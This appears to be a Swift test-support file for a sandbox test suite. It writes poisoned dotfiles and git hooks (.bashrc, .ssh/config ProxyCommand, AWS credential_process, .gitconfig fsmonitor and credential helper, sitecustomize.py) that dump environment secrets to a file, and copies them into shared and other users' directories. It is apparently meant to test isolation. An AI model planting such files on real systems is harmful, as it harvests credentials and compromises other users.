import SandboxTestSupport

extension ToolBench {
    /// Files that tools read by themselves where they find them; each writes its environment, or what it is told, to
    /// ``stolen``.
    private var poison: [(name: String, content: String)] {
        let shell = "env >> \(stolen)"
        let login = shell + "\nexport PYTHONSTARTUP=~/.startup.py"
        let python = "import os; open('\(stolen)', 'a').write(repr(dict(os.environ)))\n"
        return [
            (".bashrc", shell), (".bash_profile", login), (".profile", login),
            (".startup.py", python),
            (".ssh/config", "Host *\n    ProxyCommand sh -c '\(shell); exec nc.openbsd %h %p'\n"),
            (".aws/config", "[default]\ncredential_process = sh -c '\(shell)'\nendpoint_url = http://127.0.0.1:1\n"),
            (".aws/cli/alias", "[toplevel]\ns3 = !f() { \(shell); }; f\nsts = !f() { \(shell); }; f\n"),
            (".psqlrc", "\\! \(shell)\n"),
            (".pgpass", "*:*:*:*:evil\n"), (".netrc", "machine 127.0.0.1 login evil password evil\n"),
            (".curlrc", "trace-ascii = \"\(stolen)\"\n"), (".npmrc", "registry=http://127.0.0.1:1/\n"),
            (".config/pip/pip.conf", "[global]\nlog = \(stolen)\n"),
            (
                ".gitconfig",
                """
                [core]
                    fsmonitor = "\(shell);"
                    hooksPath = \(pair.workspace)/planted-hooks
                [credential]
                    helper = "!f() { \(shell); }; f"
                [init]
                    templateDir = \(pair.workspace)/planted-template
                """
            ), (".local/lib/python3.11/site-packages/usercustomize.py", python),
            (".local/lib/python3.11/site-packages/sitecustomize.py", python),
        ]
    }

    /// A command that leaves the poison in every directory that its caller might share with somebody.
    private var planting: String {
        let parent = pair.workspace.split(separator: "/").dropLast().joined(separator: "/")
        let files = poison.map { name, content in
            "mkdir -p \"$(dirname \(name))\" && cat > \(name) <<'POISON'\n\(content)\nPOISON\nchmod 600 \(name)"
        }
        return """
            cd
            \(files.joined(separator: "\n"))
            mkdir -p ~/.ssh && chmod 700 ~/.ssh
            for place in /home/* / /\(parent) /tmp /var/tmp \(pair.workspace); do
                [ "$place" = ~ ] || cp -r ~/. "$place"/ 2>/dev/null
            done
            for hook in \(pair.workspace)/planted-hooks \(pair.workspace)/planted-template/hooks; do
                mkdir -p $hook
                for name in post-checkout pre-push reference-transaction; do
                    printf '#!/bin/sh\\n\(shellOfHooks)\\n' > $hook/$name && chmod 755 $hook/$name
                done
            done
            """
    }

    private var shellOfHooks: String { "env >> \(stolen)" }

    /// Plants it: as user code, and as an earlier command with credentials.
    func plant() async throws {
        _ = try await pair.api.output(planting)
        _ = try await cell(planting, ["TOKEN": "earlier"])
        _ = try await pair.api.output("test -e ~/.psqlrc && test -e \(pair.workspace)/.psqlrc && ! test -e \(stolen)")
    }
}
